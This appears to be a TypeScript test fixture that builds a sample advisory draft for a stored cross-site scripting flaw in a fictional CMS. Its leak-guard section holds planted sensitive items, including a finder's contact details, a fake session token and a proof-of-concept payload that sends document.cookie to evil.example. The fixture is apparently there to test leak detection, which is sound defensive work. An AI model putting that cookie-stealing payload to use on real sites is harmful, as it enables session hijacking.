import {
  ADVISORY_DRAFT_SCHEMA_VERSION,
  advisoryDraftSchema,
  type AdvisoryDraft,
} from '../../model/advisory-draft';

/**
 * A valid, clean single-vendor draft for tests (the richer real-world fixtures are the
 * JSON files in tests/fixtures/advisories, which shared/ may not import). Every call
 * returns a fresh copy, so a test may plant a leak without affecting another.
 */
export const sampleDraft = (): AdvisoryDraft =>
  advisoryDraftSchema.parse({
    schemaVersion: ADVISORY_DRAFT_SCHEMA_VERSION,
    id: '3b0d6a52-8a1e-4c7f-9d0e-0f4c2a1b7e99',
    case: {
      id: '9f1c2d3e-4b5a-4c6d-8e7f-0a1b2c3d4e99',
      ref: 'AL-2026-0099',
      tlp: 'CLEAR',
      kind: 'software',
    },
    advisoryId: 'JVN#87654321',
    status: 'draft',
    publisher: {
      name: { ja: 'エアロック調整センター', en: 'Airlock Coordination Center' },
      namespace: 'https://coordination.example',
      contactDetails: 'vuln-coord@coordination.example',
      cveOrgId: '6e5b2a1c-3d4f-4a8b-9c0d-1e2f3a4b5c6d',
    },
    title: {
      ja: 'Example CMS におけるクロスサイトスクリプティングの脆弱性',
      en: 'Example CMS vulnerable to cross-site scripting',
    },
    overview: {
      ja: 'Example CMS にはクロスサイトスクリプティングの脆弱性が存在します。',
      en: 'Example CMS contains a cross-site scripting vulnerability.',
    },
    description: {
      ja: 'コメント欄の入力がエスケープされていません。',
      en: 'Comment input is not escaped.',
    },
    impact: {
      ja: '管理者のブラウザ上で任意のスクリプトが実行される可能性があります。',
      en: 'Arbitrary script may run in an administrator’s browser.',
    },
    solution: { ja: '3.4.3 へアップデートしてください。', en: 'Update to 3.4.3.' },
    workarounds: { ja: '', en: '' },
    vulnerabilities: [
      {
        id: 'vuln1',
        cve: 'CVE-2026-12345',
        cwe: {
          id: 'CWE-79',
          name: "Improper Neutralization of Input During Web Page Generation ('Cross-site Scripting')",
        },
        title: { ja: '格納型クロスサイトスクリプティング', en: 'Stored cross-site scripting' },
        description: {
          ja: 'コメントに含まれるスクリプトが管理画面で実行されます。',
          en: 'Script in a comment runs in the admin panel.',
        },
        cvss: {
          v31: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N',
          v40: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:P/VC:N/VI:N/VA:N/SC:L/SI:L/SA:N',
        },
      },
    ],
    vendors: [
      {
        id: 'v1',
        name: { ja: '株式会社エグザンプル', en: 'Example Inc.' },
        status: 'fixed',
        statement: { ja: '3.4.3 で修正しました。', en: 'Fixed in 3.4.3.' },
        dateUpdated: '2026-11-20',
        clearedForPublication: true,
        unreachableNamePublished: false,
      },
    ],
    products: [
      {
        id: 'p1',
        vendorId: 'v1',
        name: { ja: 'Example CMS', en: 'Example CMS' },
        versions: [
          {
            id: 'p1-v1',
            version: '<=3.4.2',
            range: true,
            label: { ja: '3.4.2 およびそれ以前', en: '3.4.2 and earlier' },
            status: 'known_affected',
          },
          {
            id: 'p1-v2',
            version: '3.4.3',
            range: false,
            label: { ja: '3.4.3', en: '3.4.3' },
            status: 'fixed',
          },
        ],
      },
    ],
    references: [
      { url: 'https://example.jp/security/2026-01', title: { ja: 'お知らせ', en: 'Notice' } },
    ],
    credits: [
      {
        id: 'c1',
        role: 'finder',
        consent: true,
        name: { ja: '山田 花子 氏', en: 'Hanako Yamada' },
      },
    ],
    revisions: [],
    dates: {},
    updatedAt: '2026-11-20T01:00:00Z',
    leakGuardContext: {
      finders: [
        {
          creditId: 'c1',
          realName: 'Hanako Yamada',
          emails: ['hanako@mail.example'],
          contacts: ['090-1111-2222'],
        },
      ],
      internalNotes: [
        'The vendor admitted privately that their QA team skipped the security review this quarter.',
      ],
      pocTexts: ['<img src=x onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">'],
      attachmentSnippets: ['admin session token 7f3a9c2e51b04d8a found in proxy log line 4411'],
      vendorContacts: ['psirt@example.jp', '+81-3-1234-5678'],
      unclearedVendorNames: ['Secret OEM Corp.'],
      allowedAddresses: ['vuln-coord@coordination.example'],
    },
    leakGuardOverrides: [],
  });
